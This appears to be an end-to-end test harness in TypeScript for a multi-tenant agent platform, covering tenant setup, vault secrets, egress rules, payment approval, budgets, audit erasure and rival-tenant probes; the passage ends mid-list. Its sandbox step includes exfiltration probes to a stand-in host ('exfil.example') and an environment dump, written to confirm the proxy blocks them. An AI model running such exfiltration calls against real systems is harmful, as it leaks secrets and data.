import { spawn } from 'node:child_process';
import { createServer as createHttpsServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import OpenAI from 'openai';
import { decodeJwt } from 'jose';
import type { ServiceName } from '@palisade/contracts';
import { issueCertificate, loadCa, ServiceIdentity } from '@palisade/pki';
import { eventually, httpsCaller, infra, type CallOptions, type Reply } from '@palisade/testing';
import { startStandIn, type Recorded, type StandIn } from '../../services/llm-router/test/support/provider-standin';
import type { DayData } from './data';

/**
 * One agent's day (/work/shared/design/agent-path.md, issue 16) over the public APIs, step by
 * step: used by the end-to-end test (test/agent-day.e2e.spec.ts, which asserts on what each
 * step returns) and by `npm run demo` (scripts/demo.ts, which tells it). The day lives in
 * tenant `tenant`; tenant `rival` must see none of it. Every id the day creates is collected
 * in `seen` for the rival's probes (step 9).
 */
export interface DayOptions {
  /** The HTTPS port of each service. */
  port(service: ServiceName): number;
  tenant: string;
  rival: string;
  data: DayData;
  /** Asked for a policy decision over NATS: how long a call may be repeated until it settles. */
  settleMs?: number;
}

export interface EgressRule {
  id: string;
  host: string;
  ports: number[];
  methods: string[];
  pathPrefixes: string[];
  addresses: string[];
  upstreamCaPem: string;
  inject: { secretId: string; tool: string; as: { type: 'header'; name: string; prefix: string } };
}

export type Budget = { postedMicros: string; pendingMicros: string; limitMicros: string };

const REPO = join(__dirname, '..', '..');
/** Sandbox usage (the orchestrator's provider `sandbox`, model = template) per million units: CPU ms, MB·ms, wall ms. */
const SANDBOX_PRICES: Array<[string, number]> = [['cpu_ms', 100_000], ['memory_mb_ms', 1_000], ['wall_ms', 10_000]];

export class AgentDay {
  readonly tok: Record<string, string> = {};
  readonly id: Record<string, string> = {};
  /** Every id the day created or was given, by what it names (the rival probes them all). */
  readonly seen = new Map<string, Set<string>>();
  readonly since = new Date(Date.now() - 60_000).toISOString();
  agentKey = '';
  onprem!: StandIn;
  cloud!: StandIn;
  gerritPort = 0;
  gerritCa = '';
  readonly gerritSeen: Array<{ path?: string; authorization?: string }> = [];
  private gerrit: Server | undefined;

  constructor(readonly o: DayOptions) {}

  get data(): DayData {
    return this.o.data;
  }

  see(kind: string, ...values: Array<string | undefined>): void {
    for (const v of values) if (v) (this.seen.get(kind) ?? this.seen.set(kind, new Set()).get(kind)!).add(v);
  }

  call(service: ServiceName, path: string, token: string | undefined, options: CallOptions = {}): Promise<Reply> {
    return httpsCaller(this.o.port(service))(path, { token, timeoutMs: 60_000, ...options });
  }

  async ok(reply: Promise<Reply>, status = [200, 201, 204]): Promise<Reply> {
    const r = await reply;
    if (!status.includes(r.status)) throw new Error(`HTTP ${r.status}: ${r.body.slice(0, 300)}`);
    return r;
  }

  /**
   * A call that needs a policy decision asked over NATS (credential, sandbox-orchestrator), repeated
   * until it gives `status`: the policy service may still be applying the rules just written, and
   * on a shared NATS another policy instance in the queue group `policy` may answer for a tenant it
   * does not know; that denial stays in the asking service's decision cache for up to 30 s.
   */
  async settled(request: () => Promise<Reply>, status = 200): Promise<Reply> {
    let last: Reply | undefined;
    let first: Reply | undefined;
    let attempts = 0;
    const started = Date.now();
    const reply = await eventually(async () => {
      last = await request();
      first ??= last;
      attempts++;
      return last.status === status ? last : undefined;
    }, this.o.settleMs ?? 75_000, 500).catch((e: Error) => {
      throw new Error(`${e.message}; last answer ${last?.status} ${last?.body.slice(0, 300)}`);
    });
    if (attempts > 1) this.waits.push({ ms: Date.now() - started, attempts, first: `${first!.status} ${first!.json?.error?.message ?? ''}`.trim() });
    return reply;
  }

  /** Calls `settled` had to repeat: how long, and the first answer (what the demo tells). */
  readonly waits: Array<{ ms: number; attempts: number; first: string }> = [];

  signIn = async (tenant: string, username: string): Promise<string> =>
    (await this.ok(this.call('auth', `/v1/tenants/${tenant}/sign-in`, undefined, { method: 'POST', body: { username, password: this.data.password } }))).json.accessToken;

  openai(token: string): OpenAI {
    return new OpenAI({ apiKey: token, baseURL: `https://localhost:${this.o.port('llm-router')}/v1`, maxRetries: 0 });
  }

  budget = async (): Promise<Budget> => (await this.ok(this.call('billing', `/v1/budgets/agent/${this.id.agent}`, this.tok.admin))).json;

  /** Stand-ins the day talks to: two model providers (OpenAI's protocol, recording what reaches them) and Gerrit (HTTPS, recording what it receives). */
  async startStandIns(): Promise<void> {
    [this.onprem, this.cloud] = await Promise.all([startStandIn(), startStandIn()]);
    const ca = await loadCa(infra('PALISADE_PKI_DIR'));
    const cert = await issueCertificate(ca, { kind: 'server', name: 'gerrit-stand-in', dns: ['gerrit.acme.test'] });
    this.gerritCa = cert.caPem;
    this.gerrit = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
      this.gerritSeen.push({ path: req.url, authorization: req.headers.authorization });
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ changes: [{ id: 'I8473b95934', subject: 'release 4.2' }] }));
    });
    await new Promise<void>((resolve) => this.gerrit!.listen(0, '127.0.0.1', resolve));
    this.gerritPort = (this.gerrit.address() as AddressInfo).port;
  }

  async stopStandIns(): Promise<void> {
    await Promise.all([this.onprem?.close(), this.cloud?.close(), new Promise((r) => (this.gerrit ? this.gerrit.close(r) : r(undefined)))]);
  }

  /** The platform operator provisions the day's tenant and the rival, each with its security admin. */
  async provisionTenants(operatorToken: string): Promise<void> {
    for (const [tenantId, name] of [[this.o.tenant, 'Acme'], [this.o.rival, 'Rival']]) {
      await this.ok(this.call('auth', '/v1/tenants', operatorToken, { method: 'POST', body: { tenantId, name, admin: { username: 'security-admin', password: this.data.password } } }));
    }
    this.see('tenant', this.o.tenant);
  }

  /** Step 1, people: alice (the agent's owner), carol (approves payments), audrey (auditor), dora (auditor admin: erasure, the SIEM feed); team, agent and its key; the rival's admin, auditor and agent. */
  async setUpPeople(): Promise<void> {
    const { tenant, rival } = this.o;
    this.tok.admin = await this.signIn(tenant, 'security-admin');
    this.tok.rivalAdmin = await this.signIn(rival, 'security-admin');
    this.id.admin = decodeJwt(this.tok.admin).sub!;
    const people = [['alice', ['member'], this.data.aliceEmail], ['carol', ['member']], ['audrey', ['auditor']], ['dora', ['admin', 'auditor']]] as const;
    for (const [name, roles, email] of people) {
      this.id[name] = (await this.ok(this.call('auth', '/v1/users', this.tok.admin, { method: 'POST', body: { username: name, password: this.data.password, roles, ...(email ? { email } : {}) } }))).json.userId;
      this.see('user', this.id[name]);
    }
    this.see('user', this.id.admin);
    await this.ok(this.call('auth', '/v1/users', this.tok.rivalAdmin, { method: 'POST', body: { username: 'rita', password: this.data.password, roles: ['auditor'] } }));
    const ron = await this.ok(this.call('auth', '/v1/users', this.tok.rivalAdmin, { method: 'POST', body: { username: 'ron', password: this.data.password, roles: ['member'] } }));
    await this.ok(this.call('auth', '/v1/teams', this.tok.admin, { method: 'POST', body: { teamId: 'platform', name: 'Platform' } }));
    await this.ok(this.call('auth', `/v1/teams/platform/members/${this.id.alice}`, this.tok.admin, { method: 'PUT' }));
    this.see('team', 'platform');
    const agent = await this.ok(this.call('auth', '/v1/agents', this.tok.admin, { method: 'POST', body: { name: 'release-bot', teamId: 'platform', ownerId: this.id.alice } }));
    this.id.agent = agent.json.agentId;
    this.see('agent', this.id.agent);
    const key = await this.ok(this.call('auth', `/v1/agents/${this.id.agent}/keys`, this.tok.admin, { method: 'POST', body: { name: 'ci', scopes: [] } }));
    this.agentKey = key.json.apiKey;
    this.id.agentKey = key.json.keyId ?? key.json.id;
    this.see('agent-key', this.id.agentKey);
    for (const name of ['alice', 'carol', 'audrey', 'dora']) this.tok[name] = await this.signIn(tenant, name);
    this.tok.rivalAuditor = await this.signIn(rival, 'rita');
    // the rival's own agent, acting for ron: it probes with an agent's token (step 9)
    await this.ok(this.call('auth', '/v1/teams', this.tok.rivalAdmin, { method: 'POST', body: { teamId: 'qa', name: 'QA' } }));
    await this.ok(this.call('auth', `/v1/teams/qa/members/${ron.json.userId}`, this.tok.rivalAdmin, { method: 'PUT' }));
    const rivalAgent = await this.ok(this.call('auth', '/v1/agents', this.tok.rivalAdmin, { method: 'POST', body: { name: 'rival-bot', teamId: 'qa', ownerId: ron.json.userId } }));
    const rivalKey = await this.ok(this.call('auth', `/v1/agents/${rivalAgent.json.agentId}/keys`, this.tok.rivalAdmin, { method: 'POST', body: { name: 'ci', scopes: [] } }));
    this.tok.rivalAgent = (await this.ok(this.call('auth', '/v1/tokens/agent', undefined, { method: 'POST', body: { apiKey: rivalKey.json.apiKey } }))).json.accessToken;
  }

  /** Step 1, policy: who runs tools and pays (alice and her agent), who approves payments (carol; alice too, which four eyes must still refuse), who keeps the vault (the admin); the tools allowlisted. */
  async setUpPolicy(): Promise<void> {
    const policy = (method: string, path: string, body: object) => this.ok(this.call('policy', path, this.tok.admin, { method, body }));
    for (const role of ['release-engineer', 'payment-approver', 'secrets-admin']) await policy('PUT', `/v1/roles/${role}`, { inherits: [] });
    this.see('role', 'release-engineer', 'payment-approver', 'secrets-admin');
    await policy('POST', '/v1/assignments', {
      assignments: [
        { subject: `user:${this.id.alice}`, role: 'release-engineer' },
        { subject: `agent:${this.id.agent}`, role: 'release-engineer' },
        { subject: `user:${this.id.carol}`, role: 'payment-approver' },
        { subject: `user:${this.id.alice}`, role: 'payment-approver' },
        { subject: `user:${this.id.admin}`, role: 'secrets-admin' },
      ],
    });
    await policy('PUT', '/v1/policies/agent-day', {
      rules: [
        { id: 'engineers-run-tools', effect: 'allow', subject: 'role:release-engineer', resource: 'tool', action: 'invoke' },
        { id: 'engineers-pay', effect: 'allow', subject: 'role:release-engineer', resource: 'payment', action: 'payments.create' },
        { id: 'approvers-approve', effect: 'allow', subject: 'role:payment-approver', resource: 'approval', action: 'approve' },
        { id: 'admin-creates-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.create' },
        { id: 'engineers-use-gerrit', effect: 'allow', subject: 'role:release-engineer', resource: 'credential', action: 'credential.use' },
        { id: 'admin-reads-secrets', effect: 'allow', subject: 'role:secrets-admin', resource: 'credential', action: 'credential.read' },
      ],
    });
    this.see('policy', 'agent-day');
    // `gerrit` is the tool the egress rule's lease is granted for (the secret's scope tool:gerrit)
    await policy('PUT', '/v1/tools', { tools: ['gerrit', 'execute_code', 'payments.create'] });
    await policy('PUT', `/v1/agents/${this.id.agent}/tools`, { tools: ['gerrit', 'execute_code', 'payments.create'] });
  }

  /** Step 1, the vault: the Gerrit token, usable only for tool gerrit. Returns the reply (which must not hold the value). */
  async storeGerritToken(): Promise<Reply> {
    const secret = await this.settled(() => this.call('credential', '/v1/secrets', this.tok.admin, { method: 'POST', body: { name: 'gerrit-token', value: this.data.gerritToken, scopes: ['tool:gerrit'] } }), 201);
    this.id.secret = secret.json.id;
    this.see('secret', this.id.secret);
    return secret;
  }

  /** Step 1, the egress rule: GET /a/changes/ on the Gerrit stand-in, the vault's secret injected as Authorization. */
  egressRule(): EgressRule {
    return {
      id: 'gerrit-changes',
      host: 'gerrit.acme.test',
      ports: [this.gerritPort],
      methods: ['GET'],
      pathPrefixes: ['/a/changes/'],
      addresses: ['127.0.0.1'],
      upstreamCaPem: this.gerritCa,
      inject: { secretId: this.id.secret, tool: 'gerrit', as: { type: 'header', name: 'Authorization', prefix: 'Bearer ' } },
    };
  }

  /** Step 1, the egress rule through the orchestrator's API (`PUT /v1/egress-rules/tenant`, the tenant admin's policy:admin). */
  putEgressRule(): Promise<Reply> {
    return this.ok(this.call('sandbox-orchestrator', '/v1/egress-rules/tenant', this.tok.admin, { method: 'PUT', body: { rules: [this.egressRule()] } }));
  }

  /** Step 1, billing: the price table (models and sandbox usage), team $50 a month, agent $5 a day (micro-USD). Returns the effective price table. */
  async setUpBilling(): Promise<Reply> {
    const price = (provider: string, model: string, kind: string, micros: number) => ({ provider, model, kind, microsPerMillion: String(micros) });
    await this.ok(this.call('billing', '/v1/price-tables', this.tok.admin, {
      method: 'PUT',
      body: { currency: 'USD', entries: [price('onprem', 'llama-local', 'input_tokens', 1_000_000), price('onprem', 'llama-local', 'output_tokens', 2_000_000), price('cloud', 'gpt-cloud', 'input_tokens', 2_500_000), price('cloud', 'gpt-cloud', 'output_tokens', 10_000_000), ...SANDBOX_PRICES.map(([kind, micros]) => price('sandbox', 'small', kind, micros))] },
    }));
    await this.ok(this.call('billing', '/v1/budgets/team/platform', this.tok.admin, { method: 'PUT', body: { limitMicros: '50000000', period: 'month', timeZone: 'UTC', hard: true } }));
    await this.ok(this.call('billing', `/v1/budgets/agent/${this.id.agent}`, this.tok.admin, { method: 'PUT', body: { limitMicros: '5000000', period: 'day', timeZone: 'UTC', hard: true } }));
    return this.ok(this.call('billing', '/v1/price-tables/effective', this.tok.admin));
  }

  /** Step 1, models: the private one (inside the perimeter) and an external one; the route `default` prefers the external. Returns the catalog. */
  async setUpModels(): Promise<Reply> {
    const router = (path: string, body: object) => this.ok(this.call('llm-router', path, this.tok.admin, { method: 'PUT', body }));
    await router('/v1/router/providers/onprem', { kind: 'openai', baseUrl: `${this.onprem.url}/v1`, compliance: 'private' });
    await router('/v1/router/providers/cloud', { kind: 'openai', baseUrl: `${this.cloud.url}/v1`, compliance: 'external' });
    await router('/v1/router/models/local', { providerId: 'onprem', upstreamModel: 'llama-local', contextWindow: 128000, maxOutputTokens: 2048, inputMicrosPerMTok: 1_000_000, outputMicrosPerMTok: 2_000_000 });
    await router('/v1/router/models/gpt', { providerId: 'cloud', upstreamModel: 'gpt-cloud', contextWindow: 128000, maxOutputTokens: 4096, inputMicrosPerMTok: 2_500_000, outputMicrosPerMTok: 10_000_000 });
    await router('/v1/router/routes/default', { candidates: ['gpt', 'local'] });
    this.see('provider', 'onprem', 'cloud');
    this.see('model', 'local', 'gpt');
    this.see('route', 'default');
    return this.ok(this.call('llm-router', '/v1/router/catalog', this.tok.admin));
  }

  /** Step 2: the agent exchanges its key for a token acting for alice. */
  async agentSignsIn(): Promise<{ claims: Record<string, unknown>; me: Reply }> {
    this.tok.agent = (await this.ok(this.call('auth', '/v1/tokens/agent', undefined, { method: 'POST', body: { apiKey: this.agentKey } }))).json.accessToken;
    return { claims: decodeJwt(this.tok.agent) as Record<string, unknown>, me: await this.ok(this.call('auth', '/v1/me/agent', this.tok.agent)) };
  }

  /** Step 3: the prompt with an e-mail, an IBAN and a card through the OpenAI SDK; what each provider received, billing and the audited model-io event. */
  async maskedPrompt() {
    this.onprem.records.length = 0;
    this.cloud.records.length = 0;
    const prompt = `Refund ${this.data.email} on IBAN ${this.data.iban}, card ${this.data.card}, for the release 4.2 outage.`;
    const { data: completion, response } = await this.openai(this.tok.agent).chat.completions.create({ model: 'default', messages: [{ role: 'user', content: prompt }] }).withResponse();
    const requestId = response.headers.get('x-palisade-request-id')!;
    this.see('request', requestId);
    const onpremReceived: Recorded[] = [...this.onprem.records];
    const cloudReceived: Recorded[] = [...this.cloud.records];
    // billing: the hold was reserved and settled with the real usage: posted > 0, nothing pending
    let last: Budget | undefined;
    const budget = await eventually(async () => {
      last = await this.budget();
      return last.pendingMicros === '0' && Number(last.postedMicros) > 0 ? last : undefined;
    }, 30_000, 200).catch((e: Error) => {
      // the usage event reaches billing through the durable billing-router-usage, which every billing instance on a shared NATS shares
      throw new Error(`${e.message}; last budget status ${JSON.stringify(last)}`);
    });
    const usage = await this.ok(this.call('billing', `/v1/usage?from=${encodeURIComponent(this.since)}&to=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}&groupBy=agent,model`, this.tok.admin));
    // audit: the model-io event, read by the tenant's auditor through the audit API
    const audited = await eventually(async () => {
      const r = await this.call('audit', `/v1/audit/events?type=llm-router.model-call.recorded&from=${encodeURIComponent(this.since)}&limit=100`, this.tok.audrey);
      return r.status === 200 ? (r.json.items as Array<{ event: { id: string; data: { requestId?: string } } }>).find((i) => JSON.stringify(i.event).includes(requestId)) : undefined;
    }, 60_000, 500);
    this.see('event', audited.event.id);
    return { prompt, completion, requestId, onpremReceived, cloudReceived, budget, usage, audited: audited as { event: Record<string, unknown> & { personal?: unknown } } };
  }

  /** Step 4: alice opens a session for her agent; the agent runs code in a sandbox: Gerrit through the proxy, another host, direct connections, its environment. */
  async executeCode() {
    const session = await this.settled(() => this.call('sandbox-orchestrator', '/v1/sessions', this.tok.alice, { method: 'POST', body: {} }), 201);
    this.id.session = session.json.id;
    this.see('session', this.id.session);
    await this.settled(() => this.call('sandbox-orchestrator', `/v1/sessions/${this.id.session}/agents/${this.id.agent}`, this.tok.alice, { method: 'PUT' }));
    const sandbox = await this.settled(() => this.call('sandbox-orchestrator', `/v1/sessions/${this.id.session}/sandboxes`, this.tok.agent, { method: 'POST', body: { template: 'small' } }), 201);
    this.id.sandbox = sandbox.json.id;
    this.see('sandbox', this.id.sandbox);
    const code = [
      'import os, socket, urllib.request',
      'print("answer", 6 * 7)',
      'def fetch(url):',
      '    try:',
      '        r = urllib.request.urlopen(url, timeout=15)',
      '        print("fetched", url, r.status, r.read().decode())',
      '    except Exception as e:',
      '        print("refused", url, e)',
      `fetch("https://gerrit.acme.test:${this.gerritPort}/a/changes/?q=status:open")`,
      'fetch("https://exfil.example/upload")',
      'try:',
      '    print("resolved data.exfil.example", socket.getaddrinfo("data.exfil.example", 443))',
      'except Exception as e:',
      '    print("dns refused data.exfil.example", e)',
      'host_end = os.environ["HTTPS_PROXY"].split("//")[1].split(":")[0]',
      `for target in [("1.1.1.1", 443), (host_end, ${this.gerritPort}), ("127.0.0.1", ${this.gerritPort})]:`,
      '    try:',
      '        socket.create_connection(target, timeout=5).close()',
      '        print("direct connected", target)',
      '    except Exception as e:',
      '        print("direct refused", target, e)',
      'print("env", sorted(os.environ.items()))',
    ].join('\n');
    const run = await this.settled(() => this.call('sandbox-orchestrator', `/v1/sandboxes/${this.id.sandbox}/executions`, this.tok.agent, { method: 'POST', body: { language: 'python', code } }));
    this.see('execution', run.json.id ?? run.json.executionId);
    const out = `${run.json.stdout}${run.json.stderr}`;
    // the proxy's and the resolver's decisions are in the audit chain (class tool_call): the refusals of exfil.example and of the lookup among them
    const decisions = await eventually(async () => {
      const r = await this.call('audit', `/v1/audit/events?type=sandbox-orchestrator.egress.decisions_recorded&from=${encodeURIComponent(this.since)}&limit=100`, this.tok.audrey);
      const items = r.status === 200 ? (r.json.items as Array<{ event: { id: string; data: { sandboxId: string } } }>).filter((i) => i.event.data.sandboxId === this.id.sandbox) : [];
      const text = JSON.stringify(items);
      return text.includes('"exfil.example"') && text.includes('data.exfil.example') ? items : undefined;
    }, 60_000, 500);
    this.see('event', ...decisions.map((d) => d.event.id));
    return { session, sandbox, run, out, decisions };
  }

  /** The day's sandbox removed (by the agent that made it): nothing of the day keeps running. */
  async removeSandbox(): Promise<number | undefined> {
    if (!this.id.sandbox || !this.tok.agent) return undefined;
    return (await this.call('sandbox-orchestrator', `/v1/sandboxes/${this.id.sandbox}`, this.tok.agent, { method: 'DELETE' })).status;
  }

  /** A decision asked as the service that runs the agent's tools (its client certificate), the agent's token forwarded. */
  private async decide(tool: ServiceIdentity, body: object) {
    const { cert, key } = tool.tlsOptions() as { cert: string; key: string };
    return (await this.ok(this.call('policy', '/v1/authorize', undefined, { method: 'POST', cert, key, body: { tenantId: this.o.tenant, ...body } }))).json;
  }

  /** Step 5: a critical payment: requires approval; alice (acting-for) and the agent may not approve; carol does; bound to its parameters, used once. */
  async payment() {
    const runnerIdentity = await ServiceIdentity.fromDevCa({ caDir: infra('PALISADE_PKI_DIR'), name: 'sandbox-orchestrator' });
    try {
      const subject = { type: 'agent', id: this.id.agent, token: this.tok.agent };
      const payment = { action: 'payments.create', resource: { type: 'payment', id: 'invoice-4711' }, parameters: { amount: 1200, currency: 'EUR', payee: 'vendor-42' } };
      const first = await eventually(async () => {
        const d = await this.decide(runnerIdentity, { subject, ...payment });
        return d.decision === 'requires_approval' ? d : undefined;
      }, 20_000, 200);
      const requested = await this.ok(this.call('policy', '/v1/approvals', this.tok.agent, { method: 'POST', body: { ...payment, service: 'sandbox-orchestrator' } }));
      this.id.approval = requested.json.approvalId;
      this.see('approval', this.id.approval);
      const byAlice = await this.call('policy', `/v1/approvals/${this.id.approval}/approve`, this.tok.alice, { method: 'POST' });
      const byAgent = await this.call('policy', `/v1/approvals/${this.id.approval}/approve`, this.tok.agent, { method: 'POST' });
      const approved = await this.ok(this.call('policy', `/v1/approvals/${this.id.approval}/approve`, this.tok.carol, { method: 'POST' }));
      const approvalToken = approved.json.token as string;
      this.tok.approval = approvalToken;
      const other = await this.decide(runnerIdentity, { subject, ...payment, parameters: { ...payment.parameters, amount: 9999 }, approvalToken });
      const allowed = await this.decide(runnerIdentity, { subject, ...payment, approvalToken });
      const again = await this.decide(runnerIdentity, { subject, ...payment, approvalToken });
      const status = (await this.ok(this.call('policy', `/v1/approvals/${this.id.approval}`, this.tok.carol))).json.status as string;
      return { payment, first, requested, byAlice, byAgent, approvalToken, other, allowed, again, status };
    } finally {
      runnerIdentity.stop();
    }
  }

  /** Step 6: the admin leaves the agent's budget 600 micro-USD of room; the agent calls until refused. */
  async spendBudget() {
    const before = await eventually(async () => {
      const s = await this.budget();
      return s.pendingMicros === '0' ? s : undefined;
    }, 30_000, 200);
    const limit = Number(before.postedMicros) + 600;
    await this.ok(this.call('billing', `/v1/budgets/agent/${this.id.agent}`, this.tok.admin, { method: 'PUT', body: { limitMicros: String(limit), period: 'day', timeZone: 'UTC', hard: true } }));
    const client = this.openai(this.tok.agent);
    let refusal: unknown;
    let served = 0;
    let reachedModel = 0;
    for (let i = 0; i < 40 && !refusal; i++) {
      this.onprem.records.length = 0;
      refusal = await client.chat.completions.create({ model: 'local', max_tokens: 200, messages: [{ role: 'user', content: `release notes, part ${i}` }] }).then(
        () => void served++,
        (e: unknown) => e,
      );
      reachedModel = this.onprem.records.length;
    }
    let last: Budget | undefined;
    const after = await eventually(async () => {
      last = await this.budget();
      return Number(last.postedMicros) > Number(before.postedMicros) ? last : undefined;
    }, 30_000, 200).catch((e: Error) => {
      throw new Error(`${e.message}; last status ${JSON.stringify(last)}`);
    });
    const settledAll = await eventually(async () => {
      last = await this.budget();
      return last.pendingMicros === '0' ? last : undefined;
    }, 30_000, 200).catch((e: Error) => {
      throw new Error(`${e.message}; last status ${JSON.stringify(last)}`);
    });
    const error = refusal instanceof OpenAI.APIError ? (refusal.error as { type: string; code: string; message: string; budget: { level: string; limitMicros: number; resetsAt: string } }) : undefined;
    return { before, limit, served, refusal, error, refusedCallReachedModel: reachedModel, after, settledAll };
  }

  /** The audit records of a subject, as the tenant's auditor reads them. */
  async recordsOfSubject(subjectId: string): Promise<Array<{ partition: number; event: { id: string; type: string; personal?: Record<string, unknown> } }>> {
    const items: Array<{ partition: number; event: { id: string; type: string; personal?: Record<string, unknown> } }> = [];
    let cursor: string | undefined;
    do {
      const r = await this.ok(this.call('audit', `/v1/audit/events?subject=${encodeURIComponent(subjectId)}&from=${encodeURIComponent(this.since)}&limit=1000${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, this.tok.audrey));
      items.push(...r.json.items);
      cursor = r.json.nextCursor;
    } while (cursor);
    return items;
  }

  /** Step 8: dora (the tenant's auditor admin) erases alice from the audit log; what the audit API and auth show of her before and after. */
  async eraseAlice() {
    const before = await eventually(async () => {
      const items = await this.recordsOfSubject(this.id.alice);
      return items.some((i) => i.event.type === 'llm-router.model-call.recorded') ? items : undefined;
    }, 60_000, 500);
    const erased = await this.call('audit', `/v1/audit/subjects/${encodeURIComponent(this.id.alice)}`, this.tok.dora, { method: 'DELETE' });
    const after = await this.recordsOfSubject(this.id.alice);
    // what the services' own reads show of alice (auth is the one service with reads of a person's data): the
    // erasure reaches auth as an event, so her account ends and her name goes a moment later
    type UserItem = { userId?: string; id?: string; username?: string; status?: string };
    let aliceInAuth: UserItem | undefined;
    await eventually(async () => {
      const users = await this.ok(this.call('auth', '/v1/users', this.tok.admin));
      aliceInAuth = ((users.json.items ?? users.json) as UserItem[]).find((u) => (u.userId ?? u.id) === this.id.alice);
      return aliceInAuth?.username !== 'alice' ? true : undefined;
    }, 30_000, 250).catch(() => undefined);
    return { before, erased, after, aliceInAuth };
  }

  /** The platform auditor's verdict on each partition holding the tenant's records (`GET /v1/audit/verify`). */
  async verifyPartitions(platformAuditor: string, partitions: number[]) {
    const verdicts: Array<{ partition: number; status: string; failure?: unknown; checkpointsVerified?: number }> = [];
    for (const partition of partitions) {
      const v = await eventually(async () => {
        const r = await this.call('audit', `/v1/audit/verify?partition=${partition}`, platformAuditor);
        return r.status === 200 && r.json.status === 'ok' ? r.json : undefined;
      }, 40_000, 1000).catch(async () => (await this.ok(this.call('audit', `/v1/audit/verify?partition=${partition}`, platformAuditor))).json);
      verdicts.push({ partition, ...v });
    }
    return verdicts;
  }

  /**
   * Step 9: every route that takes an id, asked by the rival's admin, auditor and agent with
   * each id of the day it can take, and once with an id that never existed: the answer must
   * not tell them apart (404, or the same refusal the caller gets for any id) and must hold
   * none of the day's ids or data.
   */
  async probeAsRival(): Promise<Array<{ caller: string; method: string; path: string; status: number; unknownStatus: number; leaked: string[] }>> {
    const first = (kind: string) => [...(this.seen.get(kind) ?? [])];
    // an id of the same shape that never existed: the last character changed
    const unknownOf = (id: string) => `${id.slice(0, -1)}${id.endsWith('0') ? '1' : '0'}`;
    type Route = { service: ServiceName; method: string; path: (id: string) => string; kind: string; body?: object };
    const sandboxOf = () => this.id.sandbox;
    const routes: Route[] = [
      // auth
      { service: 'auth', method: 'GET', path: (i) => `/v1/agents/${i}`, kind: 'agent' },
      { service: 'auth', method: 'GET', path: (i) => `/v1/agents/${i}/keys`, kind: 'agent' },
      { service: 'auth', method: 'GET', path: (i) => `/v1/agents/${i}/guide`, kind: 'agent' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${i}/suspend`, kind: 'agent' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${i}/resume`, kind: 'agent' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${i}/retire`, kind: 'agent' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${i}/keys`, kind: 'agent', body: { name: 'probe', scopes: [] } },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${this.id.agent}/keys/${i}/rotate`, kind: 'agent-key' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/agents/${this.id.agent}/keys/${i}/revoke`, kind: 'agent-key' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/api-keys/${i}/rotate`, kind: 'agent-key' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/api-keys/${i}/revoke`, kind: 'agent-key' },
      { service: 'auth', method: 'GET', path: (i) => `/v1/teams/${i}`, kind: 'team' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/teams/${i}/archive`, kind: 'team' },
      { service: 'auth', method: 'PUT', path: (i) => `/v1/teams/platform/members/${i}`, kind: 'user' },
      { service: 'auth', method: 'DELETE', path: (i) => `/v1/teams/platform/members/${i}`, kind: 'user' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/users/${i}/revoke-sessions`, kind: 'user' },
      { service: 'auth', method: 'POST', path: (i) => `/v1/users/${i}/disable`, kind: 'user' },
      { service: 'auth', method: 'PUT', path: (i) => `/v1/users/${i}/roles`, kind: 'user', body: { roles: ['member'] } },
      { service: 'auth', method: 'POST', path: (i) => `/v1/users/${i}/mfa/reset`, kind: 'user' },
      // policy
      { service: 'policy', method: 'GET', path: (i) => `/v1/approvals/${i}`, kind: 'approval' },
      { service: 'policy', method: 'POST', path: (i) => `/v1/approvals/${i}/approve`, kind: 'approval' },
      { service: 'policy', method: 'POST', path: (i) => `/v1/approvals/${i}/reject`, kind: 'approval' },
      { service: 'policy', method: 'GET', path: (i) => `/v1/policies/${i}`, kind: 'policy' },
      { service: 'policy', method: 'POST', path: (i) => `/v1/policies/${i}/rollback`, kind: 'policy', body: { toVersion: 1 } },
      { service: 'policy', method: 'DELETE', path: (i) => `/v1/policies/${i}`, kind: 'policy' },
      { service: 'policy', method: 'DELETE', path: (i) => `/v1/roles/${i}`, kind: 'role' },
      // credential
      { service: 'credential', method: 'GET', path: (i) => `/v1/secrets/${i}`, kind: 'secret' },
      { service: 'credential', method: 'GET', path: (i) => `/v1/secrets/${i}/history`, kind: 'secret' },
      { service: 'credential', method: 'POST', path: (i) => `/v1/secrets/${i}/rotate`, kind: 'secret', body: { value: 'probe-value' } },
      { service: 'credential', method: 'POST', path: (i) => `/v1/secrets/${i}/revoke`, kind: 'secret', body: { reason: 'probe' } },
      { service: 'credential', method: 'DELETE', path: (i) => `/v1/secrets/${i}`, kind: 'secret' },
      // sandbox-orchestrator
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/sessions/${i}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/sessions/${i}/sandboxes`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'POST', path: (i) => `/v1/sessions/${i}/sandboxes`, kind: 'session', body: { template: 'small' } },
      { service: 'sandbox-orchestrator', method: 'PUT', path: (i) => `/v1/sessions/${i}/agents/${this.id.agent}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'DELETE', path: (i) => `/v1/sessions/${i}/agents/${this.id.agent}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'PUT', path: (i) => `/v1/sessions/${i}/members/${this.id.carol}`, kind: 'session', body: { role: 'viewer' } },
      { service: 'sandbox-orchestrator', method: 'DELETE', path: (i) => `/v1/sessions/${i}/members/${this.id.alice}`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'POST', path: (i) => `/v1/sessions/${i}/archive`, kind: 'session' },
      { service: 'sandbox-orchestrator', method: 'GET', path: (i) => `/v1/sandboxes/${i}`, kind: 'sandbox' },
